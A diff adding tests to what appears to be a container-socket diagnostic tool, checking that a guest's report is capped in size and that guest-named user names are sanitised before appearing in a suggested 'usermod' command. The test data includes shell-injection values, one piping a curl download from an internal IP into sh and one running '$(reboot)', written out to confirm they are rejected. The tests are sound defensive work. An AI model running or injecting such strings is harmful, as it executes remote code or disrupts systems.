@@ -63,6 +63,23 @@ test('what a guest makes up is left out of a report', () => {
   expect(engineRefusal(report, where).message).toMatch(/^[\x20-\x7e]*$/)
 })
 
+test('a guest that makes up hundreds of sockets has a few of them looked at', () => {
+  const many = Array.from({ length: 500 }, (_, i) => `xsc:socket:ok:yes:/run/${i}.sock`)
+  expect(parseReport([...many, 'xsc:end:'].join('\n')).sockets.size).toBeLessThanOrEqual(16)
+})
+
+test.each([
+  ['core; curl http://10.0.0.9/x | sh #', 'core'],
+  ['$(reboot)', 'core'],
+  ['a user with blanks', 'core'],
+  ['admin', 'admin'],
+  ['EXAMPLE\\admin', 'EXAMPLE\\admin'],
+  ['admin@example.com', 'admin@example.com'],
+])('the user that the guest names, %j, stands in a command only if it is a name', (named, shown) => {
+  const report = parseReport(`xsc:user:${named}\nxsc:socket:denied:yes:/var/run/docker.sock\nxsc:end:`)
+  expect(engineRefusal(report, where).diagnosis.cure).toContain(`usermod -aG docker ${shown} (or`)
+})
+
 test('a socket whose engine died is not taken for the one of another folder with the same ending', async () => {
   const folder = mkdtempSync(join(tmpdir(), 'xsc-'))
   const dead = join(folder, 'e.sock')
